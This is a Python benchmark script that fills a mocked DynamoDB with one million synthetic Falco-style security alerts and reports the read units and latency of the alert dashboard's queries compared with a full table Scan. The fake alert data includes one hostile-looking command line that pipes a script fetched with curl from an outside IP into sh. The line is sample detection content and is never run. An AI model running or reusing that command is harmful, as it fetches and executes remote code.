"""The alert store at scale: what the dashboard's common questions read, with 1,000,000
alerts stored, and what a Scan would read instead.

    python bench/dashboard.py [--alerts 1000000] [--days 30] [--seed 14]

Loads ``--alerts`` synthetic alerts, spread evenly over ``--days`` days ending now, into
moto's DynamoDB (in process, ``moto.mock_aws``): the table ``dashboard.table`` creates,
holding exactly the items ``dashboard.schema`` builds (``alert_record`` per alert and
``bulk_items``, which sums the counter increments ``AlertStore.put`` would make). The
alerts are the bundled rules' names, priorities, sources and tags (Zipf-weighted: a few
rules fire most), from 200 nodes, 25 namespaces, 3 AWS accounts, with Falco-like
outputs and output fields (about 1 KB of JSON each).

Then each common question is asked through ``AlertStore`` (the code the API runs), and
the table says, per question: the Query calls made, the items they read (before any
filter), the read units, and the latency on moto.

Read units are computed here, not taken from moto: moto answers ConsumedCapacity with a
constant. DynamoDB's rule for an eventually consistent Query (or Scan page) is
0.5 x ceil(total size of the items it READ / 4 KB) (a GSI's items at their projected
size; a FilterExpression does not lower it), 0.5 at least per call; an item's size is
its attribute names' and values' bytes. To know what a Query read, the bench has moto
size every item a Query passes to its filter expression (each of the store's Queries
has one), which is every item it read, as the index projects it.
A GetItem is 0.5 x ceil(item size / 4 KB). The Scan column is what one Scan reading
the whole table would cost by the same rule (computed from the table's size: a Scan
answers any of these questions only by reading everything), and the ratio is Scan over
what the layout read.

Latency on moto is not DynamoDB's: moto's Query sorts and walks every item of the table
on each call (seconds per call whatever it reads, more on an index holding most items). The bench keeps
moto's sorted list of items between calls (nothing writes once loading is done), which
changes no answer; even so, read units are the figure that carries over to DynamoDB.
moto also ends a page at 1 MB of whole items where DynamoDB counts a GSI's projected
items, so a filtered search makes more calls on moto than it would on DynamoDB.

Needs, for 1,000,000 alerts over 30 days (measured once, on a 2-CPU machine): 10.3 GiB
of memory at peak (1,000,000 alert items and 2,951,700 counters in moto) and 40 minutes
(9 to load, 2 for moto's sort, 29 to ask: about 8 s per moto call, 80 s on the by-time
index). ``--alerts 20000`` runs in a minute in under 1 GiB.

What that run read (RU: read units; the whole table is 3.2 GB, a Scan 408,176 RU):
a page of 50 alerts, with or without a key filter, 8 to 12 RU; priority >= Notice 70 RU
(it reads the by-time index past Informational and Debug); a tag 141 RU, free text up
to 354 RU (5 Queries, filtered); counts and timelines from counters 1 to 67 RU for 1 h
to 30 d (281 RU for hostnames over 7 days: 168 hours x 200 hosts); a count with a
filter, from the alerts, 225 RU; one alert by id 0.5 RU.
"""

from __future__ import annotations

import argparse
import gc
import math
import random
import re
import resource
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))  # first: this file's own name would shadow the package

from dashboard import schema  # noqa: E402
from dashboard.schema import DIMENSIONS, Filters, TimeRange  # noqa: E402
from dashboard.store import AlertStore  # noqa: E402
from dashboard.table import create_alert_store_table  # noqa: E402
from deliver.alert import parse_alert  # noqa: E402
from lanner import Priority, load_rules  # noqa: E402
from lanner.resources import rules_dir  # noqa: E402

TABLE = "lanner-alert-store-bench"
REGION = "us-east-1"
KB4 = 4096
PAGE = 1024 * 1024


# --- synthetic alerts --------------------------------------------------------------------


@dataclass(frozen=True)
class RuleSpec:
    name: str
    priority: Priority
    source: str
    tags: tuple[str, ...]
    output: str


def rule_catalog() -> list[RuleSpec]:
    """The bundled rules, as alerts would name them."""
    rules = load_rules(sorted(rules_dir().glob("*.yaml"))).rules
    return [
        RuleSpec(r.name, r.priority, r.source, tuple(r.tags), str(r.output_text or r.name))
        for r in rules
        if r.enabled
    ]


_FIELD = re.compile(r"%[\w.\[\]:/-]+")


def node_name(i: int) -> str:
    return f"ip-10-0-{i // 50}-{i % 50}.eu-west-1.compute.internal"


@dataclass
class Synth:
    """Deterministic alerts: ``docs(n)`` yields Falco alert documents."""

    end: datetime
    days: int
    seed: int
    rules: list[RuleSpec] = field(default_factory=rule_catalog)

    def __post_init__(self) -> None:
        self.order = self.rules[:]  # most frequent first
        random.Random(self.seed).shuffle(self.order)

    def docs(self, n: int) -> Iterator[dict[str, Any]]:
        rnd = random.Random(self.seed)
        weights = [1 / (rank + 1) ** 1.1 for rank in range(len(self.rules))]
        order = self.order
        nodes = [node_name(i) for i in range(200)]
        namespaces = [f"team-{i:02d}" for i in range(22)] + ["kube-system", "default", "prod"]
        accounts = ["123456789012", "210987654321", "555566667777"]
        span_ns = self.days * 86_400 * 10**9
        end_ns = int(self.end.timestamp()) * 10**9
        picks = rnd.choices(range(len(order)), weights=weights, k=n)
        for i, pick in enumerate(picks):
            rule = order[pick]
            at_ns = end_ns - 1 - (i * span_ns // n) - rnd.randrange(span_ns // max(n, 1) or 1)
            yield self._doc(rnd, i, rule, at_ns, nodes, namespaces, accounts)

    @staticmethod
    def _doc(
        rnd: random.Random,
        i: int,
        rule: RuleSpec,
        at_ns: int,
        nodes: list[str],
        namespaces: list[str],
        accounts: list[str],
    ) -> dict[str, Any]:
        when = datetime.fromtimestamp(at_ns // 10**9, UTC)
        stamp = when.strftime("%Y-%m-%dT%H:%M:%S") + f".{at_ns % 10**9:09d}Z"
        ns = rnd.choice(namespaces)
        pid = 1000 + i % 50_000
        fields: dict[str, Any] = {"evt.time": at_ns}
        if rule.source == "aws_cloudtrail":
            hostname = "lanner-cloudtrail-detector"
            account = rnd.choice(accounts)
            fields |= {
                "ct.user": f"user-{i % 37}",
                "ct.recipientaccountid": account,
                "ct.region": "eu-west-1",
                "ct.srcip": f"203.0.113.{i % 250}",
                "ct.name": "ConsoleLogin",
            }
        elif rule.source == "k8s_audit":
            hostname = "lanner-eks-audit-detector"
            fields |= {
                "ka.user.name": f"system:serviceaccount:{ns}:deployer",
                "ka.target.namespace": ns,
                "ka.target.resource": "pods",
                "ka.verb": "create",
                "ka.uri": f"/api/v1/namespaces/{ns}/pods",
            }
        else:
            hostname = rnd.choice(nodes)
            fields |= {
                "user.name": "root",
                "proc.name": "bash",
                "proc.pname": "runc",
                "proc.cmdline": f"bash -c curl -s http://203.0.113.9/x{i % 97}.sh | sh",
                "proc.pid": pid,
                "container.id": f"{i * 7919 % 16**12:012x}",
                "container.name": f"app-{i % 13}",
                "container.image.repository": f"registry.example.com/{ns}/app",
                "k8s.ns.name": ns,
                "k8s.pod.name": f"app-{i % 13}-7d9f8b6c5d-{i % 99999:05d}",
            }
        body = _FIELD.sub(lambda m: str(fields.get(m[0][1:], "<NA>")), rule.output)
        output = f"{when:%H:%M:%S}.{at_ns % 10**9:09d}: {rule.priority} {body}"
        return {
            "uuid": f"{rnd.getrandbits(128):032x}",
            "rule": rule.name,
            "priority": str(rule.priority),
            "output": output,
            "time": stamp,
            "source": rule.source,
            "hostname": hostname,
            "tags": list(rule.tags),
            "output_fields": fields,
        }


# --- DynamoDB's item size and read units ------------------------------------------------


def item_size(item: dict[str, Any]) -> int:
    """An item's size as DynamoDB counts it: names plus values (DynamoDB JSON)."""
    return sum(len(name.encode()) + _value_size(value) for name, value in item.items())


def _value_size(value: dict[str, Any]) -> int:
    (kind, v), *_ = value.items()
    if kind == "S":
        return len(v.encode("utf-8", "surrogatepass"))
    if kind == "N":
        digits = v.lstrip("-").replace(".", "").strip("0") or "0"
        return math.ceil(len(digits) / 2) + 1
    if kind == "L":
        return 3 + sum(1 + _value_size(x) for x in v)
    if kind == "M":
        return 3 + sum(1 + len(k.encode()) + _value_size(x) for k, x in v.items())
    if kind in ("BOOL", "NULL"):
        return 1
    return len(str(v))


def read_units(size: int) -> float:
    """One eventually consistent read of ``size`` bytes: 0.5 per 4 KB, 0.5 at least."""
    return 0.5 * max(1, math.ceil(size / KB4))


@dataclass
class Meter:
    """The DynamoDB client the store is given: passes every call on and counts what each
    read. ``sizes`` is filled by moto (``size_items_read``) with the size of every item a
    Query read, before its filter."""

    client: Any
    sizes: list[int]
    calls: int = 0
    items_read: int = 0
    units: float = 0.0

    def reset(self) -> None:
        self.calls, self.items_read, self.units = 0, 0, 0.0

    def query(self, **kwargs: Any) -> Any:
        self.sizes.clear()
        got = self.client.query(**kwargs)
        scanned = int(got.get("ScannedCount", 0))
        if len(self.sizes) != scanned:
            raise RuntimeError(
                f"moto read {scanned} items but {len(self.sizes)} were sized: "
                "size_items_read no longer fits this moto"
            )
        self.calls += 1
        self.items_read += scanned
        self.units += read_units(sum(self.sizes))
        return got

    def get_item(self, **kwargs: Any) -> Any:
        got = self.client.get_item(**kwargs)
        self.calls += 1
        item = got.get("Item")
        self.items_read += 1 if item else 0
        self.units += read_units(item_size(item) if item else 0)
        return got

    def __getattr__(self, name: str) -> Any:
        return getattr(self.client, name)


# --- loading -------------------------------------------------------------------------------


@dataclass
class Loaded:
    alerts: int = 0
    counters: int = 0
    table_bytes: int = 0
    seconds: float = 0.0
    some_uuid: str = ""


def load(n: int, synth: Synth, retention_days: int) -> Loaded:
    """Puts the items ``schema`` builds for ``n`` alerts straight into moto's backend
    (the HTTP layer would only slow loading down), counters summed as ``bulk_items`` sums
    them; an alert is received at its own time (as delivery would, give or take)."""
    from moto.core import DEFAULT_ACCOUNT_ID
    from moto.dynamodb.models import dynamodb_backends

    table = dynamodb_backends[DEFAULT_ACCOUNT_ID][REGION].get_table(TABLE)
    out = Loaded()
    started = time.perf_counter()

    def records() -> Iterator[schema.AlertRecord]:
        for doc in synth.docs(n):
            alert = parse_alert(doc)
            received = schema.parse_stored_time(schema.normalize_time(alert.time) or "")
            record = schema.alert_record(alert, received.timestamp(), retention_days)
            if not out.some_uuid and out.alerts >= n // 2:
                out.some_uuid = alert.uuid
            out.alerts += 1
            if out.alerts % 100_000 == 0:
                print(f"  {out.alerts:,} alerts loaded ({time.perf_counter() - started:.0f} s)")
            yield record

    gc.disable()  # millions of long-lived objects: collections would only rescan them
    try:
        for item in schema.bulk_items(records()):
            table.put_item(item)
            out.table_bytes += item_size(item)
            if item["pk"]["S"].startswith("count#"):
                out.counters += 1
    finally:
        gc.enable()
        gc.freeze()
    out.seconds = time.perf_counter() - started
    return out


def size_items_read() -> list[int]:
    """Has moto note the size of each item a Query reads: every item it read passes its
    filter expression (the store's Queries all have one: ``expires > :now``), after the
    index's projection, so the filter is wrapped. Returns the list it fills."""
    from moto.dynamodb.models.table import Table

    sizes: list[int] = []
    original = Table.query

    class Sizing:
        def __init__(self, inner: Any) -> None:
            self.inner = inner

        def expr(self, item: Any) -> Any:
            sizes.append(item_size(item.to_json()["Attributes"]))
            return self.inner.expr(item)

    def query(self: Any, *args: Any, **kwargs: Any) -> Any:
        args = (*args[:9], Sizing(args[9]), *args[10:])  # moto 5: filter_expression
        return original(self, *args, **kwargs)

    Table.query = query  # type: ignore[method-assign]
    return sizes


def keep_sorted_items() -> None:
    """moto sorts every item of the table on each Query; with no writes after loading,
    its sorted list can be kept (answers unchanged)."""
    from moto.dynamodb.models.table import Table

    original = Table.all_items

    def all_items(self: Any) -> Any:
        cached = self.__dict__.get("_bench_all_items")
        if cached is None:
            cached = self.__dict__["_bench_all_items"] = original(self)
        return cached

    Table.all_items = all_items  # type: ignore[method-assign]
    from moto.core import DEFAULT_ACCOUNT_ID
    from moto.dynamodb.models import dynamodb_backends

    dynamodb_backends[DEFAULT_ACCOUNT_ID][REGION].get_table(TABLE).all_items()  # sorts, once


# --- the questions --------------------------------------------------------------------------


@dataclass(frozen=True)
class Question:
    name: str
    ask: Callable[[AlertStore], str]  # says what it found


def questions(end: datetime, synth: Synth, some_uuid: str) -> list[Question]:
    def last(delta: timedelta) -> TimeRange:
        return TimeRange(end - delta, end)

    day, hour = timedelta(days=1), timedelta(hours=1)
    common = [r for r in synth.order if r.source == "syscall"][2]
    tag = "mitre_persistence"

    def page(f: Filters, span: timedelta = day) -> Callable[[AlertStore], str]:
        def ask(store: AlertStore) -> str:
            got = store.search(last(span), f, limit=50)
            more = " +cursor" if got.cursor else ""
            return f"{len(got.rows)} rows{more}"

        return ask

    def counts(by: str, span: timedelta, f: Filters | None = None) -> Callable[[AlertStore], str]:
        def ask(store: AlertStore) -> str:
            got = store.counts(last(span), by, f or Filters(), top=50)
            how = got.granularity or "alerts"
            exact = "" if got.exact else ", not exact"
            return f"{len(got.groups)} groups, total {got.total:,} ({how}{exact})"

        return ask

    def timeline(span: timedelta) -> Callable[[AlertStore], str]:
        def ask(store: AlertStore) -> str:
            got = store.timeline(last(span), Filters())
            total = sum(sum(c.values()) for _, c in got.buckets)
            return f"{len(got.buckets)} buckets, total {total:,}"

        return ask

    def get(store: AlertStore) -> str:
        return "found" if store.get(some_uuid) else "missing"

    asked = [
        Question("recent page (24h, 50 rows)", page(Filters())),
        Question(f"rule = {common.name[:30]}", page(Filters(rule=common.name))),
        Question("hostname = one node", page(Filters(hostname=node_name(0)))),
        Question("namespace = team-07", page(Filters(namespace="team-07"))),
        Question("account = 210987654321", page(Filters(account="210987654321"))),
        Question("priority >= Critical", page(Filters(priority=Priority.CRITICAL))),
        Question("priority >= Error", page(Filters(priority=Priority.ERROR))),
        Question("priority >= Warning", page(Filters(priority=Priority.WARNING))),
        Question("priority >= Notice", page(Filters(priority=Priority.NOTICE))),
        Question("source = k8s_audit", page(Filters(source="k8s_audit"))),
        Question(f"tag = {tag}", page(Filters(tag=tag))),
        Question("text ~ 'x42.sh'", page(Filters(text="x42.sh"))),
        Question("text ~ 'x42.sh', 1h", page(Filters(text="x42.sh"), hour)),
    ]
    for span_name, span in (("1h", hour), ("24h", day), ("7d", 7 * day), ("30d", 30 * day)):
        asked += [Question(f"counts by {by}, {span_name}", counts(by, span)) for by in DIMENSIONS]
    asked += [
        Question(
            "counts by rule, 24h, namespace", counts("rule", day, Filters(namespace="team-07"))
        ),
        Question("timeline 24h", timeline(day)),
        Question("timeline 30d", timeline(30 * day)),
        Question("get by id", get),
    ]
    return asked


# --- the run ----------------------------------------------------------------------------------


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--alerts", type=int, default=1_000_000)
    parser.add_argument("--days", type=int, default=30)
    parser.add_argument("--seed", type=int, default=14)
    args = parser.parse_args(argv)

    import boto3
    from moto import mock_aws

    end = datetime.now(UTC).replace(microsecond=0)
    synth = Synth(end=end, days=args.days, seed=args.seed)
    retention = max(args.days + 1, schema.RETENTION_DAYS_DEFAULT)
    with mock_aws():
        client = boto3.client(
            "dynamodb",
            region_name=REGION,
            aws_access_key_id="bench",
            aws_secret_access_key="bench",
        )
        create_alert_store_table(client, TABLE)
        print(f"loading {args.alerts:,} alerts over {args.days} days into moto ...")
        loaded = load(args.alerts, synth, retention)
        started = time.perf_counter()
        keep_sorted_items()
        meter = Meter(client, size_items_read())
        store = AlertStore(lambda: meter, TABLE, retention_days=retention)
        sorting = time.perf_counter() - started
        scan_units = scan_read_units(loaded.table_bytes)
        print(
            f"loaded {loaded.alerts:,} alerts and {loaded.counters:,} counters "
            f"({loaded.table_bytes / 2**20:,.0f} MiB by DynamoDB's measure) in "
            f"{loaded.seconds:.0f} s (and {sorting:.0f} s for moto to sort it); "
            f"peak memory {peak_rss_gib():.1f} GiB\n"
        )
        print(
            "Read units: computed by DynamoDB's rule (moto reports a constant): per Query, "
            "0.5 x ceil(bytes of the items it read / 4 KB), 0.5 at least.\n"
            f"Scan: one Scan of the whole table, by the same rule: {scan_units:,.0f} read units.\n"
            "ms on moto: moto walks the whole table per call; not DynamoDB's latency.\n"
        )
        head = f"{'question':<40} {'calls':>5} {'read':>8} {'RU':>9} {'ms':>8} {'Scan/this':>9}  answer"
        print(head)
        print("-" * len(head))
        for q in questions(end, synth, loaded.some_uuid):
            meter.reset()
            started = time.perf_counter()
            answer = q.ask(store)
            ms = (time.perf_counter() - started) * 1000
            ratio = scan_units / meter.units if meter.units else float("inf")
            print(
                f"{q.name:<40} {meter.calls:>5} {meter.items_read:>8,} {meter.units:>9,.1f} "
                f"{ms:>8,.0f} {ratio:>9,.0f}  {answer}"
            )
    print(f"\npeak memory {peak_rss_gib():.1f} GiB")
    return 0


def scan_read_units(table_bytes: int) -> float:
    """A Scan of the whole table: 1 MB pages, each 0.5 per 4 KB."""
    pages, rest = divmod(table_bytes, PAGE)
    return pages * read_units(PAGE) + (read_units(rest) if rest else 0.0)


def peak_rss_gib() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 2**20  # KiB on Linux


if __name__ == "__main__":
    raise SystemExit(main())
